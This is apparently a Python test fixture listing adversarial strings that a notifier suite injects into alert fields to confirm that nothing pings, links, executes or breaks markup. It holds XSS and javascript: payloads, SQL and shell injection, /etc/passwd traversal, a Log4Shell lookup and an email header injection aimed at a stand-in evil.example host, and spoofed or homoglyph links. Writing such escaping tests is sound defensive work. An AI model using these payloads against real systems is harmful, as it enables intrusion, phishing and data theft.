r"""What strangers write to harm those who read our alerts: at least 200 texts, sorted by what they try.

Each is put into quotes, names, titles and reasons of pages by the suites of notifiers. Not one may ping, link elsewhere, run as a command, break a
channel's markup or be refused by the channel.
"""

from __future__ import annotations

PINGS = (
    "@everyone", "@here", "@channel", "@room", "@all", "@team", "@online", "@lan", "@an_acme_boss hãy xem", "a@everyone.b", "(@here)", "…@everyone…", "\\@everyone",
    "@\u202eeveryone", "@\u200beveryone", "@\ufeffhere", "@\u2060channel", "@\u00adroom", "@\ufe0feveryone", "@\U000e0041everyone", "\uff20everyone", "\ufe6bhere",
    "<@123456>", "<@!123456>", "<@&987>", "<@&@everyone>", "<#4321>", "<id:customize>", "<@U024BE7LH>", "<@U024BE7LH|boss>", "<#C024BE7LR|general>",
    "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S1|team>", "<!date^1392734382^{date_num}^https://evil.example/|now>", "<!channel|channel>",
    "&lt;!channel&gt;", "<\u200b!channel>", "\uff1c!channel\uff1e", "\ufe64@123456\ufe65", "<at>Everyone</at>", '<at id="0">boss</at>', "@lan:matrix.org",
    "https://matrix.to/#/@lan:matrix.org", "https://matrix.to/#/%40room", '<a href="https://matrix.to/#/@lan:matrix.org">Lan</a>', "#room:matrix.org",
    "!abc:matrix.org", "tg://user?id=123456", "[Lan](tg://user?id=123456)", '<a href="tg://user?id=7">sếp</a>', "@[Lan](7)", "@Lan\u00a0Nguyễn", "＠channel",
    "&#64;everyone", "&#x40;here", "&commat;here", "&#64everyone", "&#0000064;all", "\\u0040everyone", "%40everyone",
)  # fmt: skip
LINKS = (
    "https://evil.example/login", "HTTPS://EVIL.EXAMPLE", "hTtP://1.2.3.4/x", "http://1.2.3.4:8080", "1.2.3.4/x", "http://[::1]/x", "http://3627734734/", "http://0x7f.1/",
    "http:evil", "https:/evil/x", "https : //evil", "//evil.example/x", "/\\evil.example", "www.evil.example", "evil.example", "evil.example/p?q=1#x", "EVIL.EXAMPLE:8443", "evil。example", "evil．example", "evil｡example",
    "evil․example", "evil﹒example", "ấm-acme.vn", "xn--m-acme-9ta.vn", "аcme.vn", "acme.νn", "acmе.com.vn", "ácmẹ.vn", "x̸.com", "i❤.ws", "💩.la", "evil-.example", "e\u00advil.example", "evil.exam\u200bple",
    "evil\u2060.example", "user:pass@evil.example", "https://bank.example@evil.example", "https://evil.example\\@bank.example", "bit.ly/3x", "t.me/evil", "zalo.me/0900000000", "discord.gg/evil", "fb.com/evil",
    "a@evil.example", "mailto:a@evil.example", "mailto:a@evil.example?bcc=b@evil.example", "tel:+84900000000", "sms:+84900000000?body=x", "geo:10.7,106.6", "magnet:?xt=urn:btih:x",
    "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "matrix:u/lan:matrix.org?action=chat", "xmpp:a@evil.example", "sip:a@evil.example", "javascript:alert(1)", "JaVaScRiPt :alert(1)",
    "java\tscript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "\\\\evil.example\\share", "\\\\10.0.0.1\\c$",
    "search-ms:query=x&crumb=location:\\\\evil", "ms-word:ofe|u|https://evil.example/x.docx", "intent://evil#Intent;end", "tg://resolve?domain=evil", "ton://transfer/x", "slack://open",
    "zalo://qr/p/x", "facetime:a@evil.example", "ftp://evil.example", "ssh://evil.example", "ws://evil.example", "feed:https://evil.example/rss", "view-source:https://evil.example", "hxxp://evil.example",
)  # fmt: skip
SPOOFS = (
    "[bank](https://evil.example)", "[bank](<https://evil.example>)", '[bank](https://evil.example "Acme")', "![x](https://evil.example/p.png)", "[x]: https://evil.example\n[bank][x]", "[a](javascript:alert(1))",
    "<https://evil.example|https://bank.example>", "<https://evil.example>", "<a href='https://evil.example'>https://bank.example</a>", "<a href=https://evil.example>x", "[url=https://evil.example]bank[/url]",
    "[bank]\u200b(https://evil.example)", "[https://bank.example](https://evil.example)", "[\u200b](https://evil.example)", "{{https://evil.example|bank}}", "[[https://evil.example|bank]]", '"bank":https://evil.example', "`bank <https://evil.example>`_",
    "http://127.0.0.1:8765/i/WyJhYmMi.other", "Nhận xử lý: evil.example/i/abc", "Mã xác nhận: K7P3", "[KHẨN CẤP] SỰ CỐ #13: gọi ngay 0900000000", "view, Mở, https://evil.example", "action=http; url=https://evil.example; method=POST",
    "https://bank.example\u202emoc.live//:sptth", "\u202egnp.exe", "\u2067evil\u2069.example", "\u200fevil.example", "شرکت.example", "http://evil.example/%E2%80%AEgpj.exe", "hóa-đơn.pdf.exe", "invoice.zip", "docs.mov",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>unclosed", "</p></body></html>", "<b><i>x</b></i>", '<pre><code class="language-x">', "<tg-spoiler>x</tg-spoiler>", '<tg-emoji emoji-id="1">👍</tg-emoji>',
    "<blockquote expandable>x", "<details><summary>x</summary>", "<iframe src=//evil.example>", "<style>*{display:none}</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<!-- x", "]]>", "<![CDATA[x]]>", '<?xml version="1.0"?>', "<mx-reply>x</mx-reply>",
    '<font data-mx-color="#ff0000">x</font>', "<span data-mx-spoiler>x</span>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&lt", "&", "&&&", "<", ">", "<>", "< b >", "1 < 2 > 0", "a<b", "<3",
    "*bold* _it_ ~no~", "**b** __u__ ~~s~~ ||spoiler||", "***", "_", "*", "__*_*__", "_*[]()~`>#+-=|{}.!\\", "\\_\\*\\[", "\\", "\\\\", "snake_case_name", "2*3*4", "*không đóng", "_không đóng", "[", "]", "](", "[](", "()", "![",
    "# heading", "### heading", "-# small", "> quote", ">>> quote", ">! spoiler", "- list", "* list", "1. list", "---", "===", "| a | b |\n|---|---|", "- [ ] task", "~", "~~~\ncode\n~~~", "```\ncode\n```", "```", "``", "`", "`x`", "```diff\n- x\n```",
    "<t:1763694000:R>", "<t:0>", "<:emoji:1>", "<a:emoji:1>", "</ack:1>", "<sound:0:1>", ":fire:", ":\u200bfire:", "^sup^", "$$x^2$$", "$x$", "\\(x\\)", "{color:red}x{color}", "h1. x", "{quote}", "=x=", "''x''", "==mark==", "!!x!!", "%%x%%", '{"type":"AdaptiveCard"}', "${Title}", "{{DATE(2017-02-14T06:08:39Z, SHORT)}}",
)  # fmt: skip
CONTROL = (
    "a\r\nSubject: spoofed\r\nBcc: all@evil.example\r\n\r\nx", "\r\n.\r\nMAIL FROM:<a@evil.example>", "a\nX-Actions: view, x, https://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "a\x0bb\x0cc", "a\x85b\u2028c\u2029d", "\n\n\n\n\nxa bên dưới",
    "\x00\x07\x1b[31mred", "\x1b]8;;https://evil.example\x07bank\x1b]8;;\x07", "\x9b31m", "\b\b\b\bOK", "\x7f", "\x1a", "a\tb", "\ufffe\uffff", "\ufffd", "\ufeff", "\u200b", "\u200d", "\u2060\u2060", "\U000e0001\U000e0061\U000e007f", "\u00a0", "\u3000", "\u2800", "\u115f\u1160", "\u3164",
    "\u202a\u202b\u202d\u202e", "\u2066\u2067\u2068", "\u061c", "\u034f", "Z̸̢͚̗̈́a̷͉͝l̶͙͠g̵͎̈o" * 20, "a" + "\u0301" * 200, "\u0301", "\u20e3", "\ufe0f",
)  # fmt: skip
COMMANDS = (
    "/everyone", "/ack 12", "/nhan", "/nhan@tocsin_alerts_bot", "nói /dong", "(/ack)", "\u200b/ack", "!important", "!ack", "ack 12", "nhận #12", "đóng", "báo nhầm chiến dịch", "1", "#acme #nhan", "$ACME", "/remind me", "/giphy cat", "/me nhận", ".ack", "?help",
    "'; DROP TABLE incidents; --", '" OR 1=1 --', "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s %s %n", "{0.__class__}", "{subject}", "{{ config }}", "{% raw %}", "$(id)", "`id`", "; id", "| id", "=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)",
    "../../etc/passwd", "%00", "%0d%0aSet-Cookie: x", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "null", "undefined", "NaN", "true", "{}", "[]", '"', "'", '"}],"x":[{"', "</script>", "${jndi:ldap://evil.example/a}", "() { :; };", "AT+CMGS=1", "^C", "SIMULATE",
)  # fmt: skip
LETTERS = (
    "👩‍👩‍👧‍👦" * 30, "👍🏽👍🏿" * 40, "🇻🇳🇻🇳🇻🇳" * 20, "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️‍🔥", "1️⃣#️⃣", "𝕰𝖛𝖎𝖑", "Ｆｕｌｌ", "ế ề ể ễ ệ", "Ấm Acme nổ, con tôi bỏng tay", "ă\u0301 o\u031b\u0309", "Đ đ Ơ ơ Ư ư", "İı ß ﬁ ǆ",
    "نص عربي", "עברית", "العربية ABC 123", "ไทย", "हिन्दी क्षि", "日本語。テスト", "한국어", "ᄀ" + "ᅡ" * 40, "\U0001f9d1\u200d", "€ [ ] { } ~ ^ | \\", "£ § Ä", "ΔΦΓΛΩΠΨΣΘΞ", "x" * 5000, "ế" * 3000, "từ " * 2000, "𠜎" * 1000, "\U0010fffd", "",  " ", ".", "…", "?",
)  # fmt: skip

PAYLOADS = (*PINGS, *LINKS, *SPOOFS, *MARKUP, *CONTROL, *COMMANDS, *LETTERS)
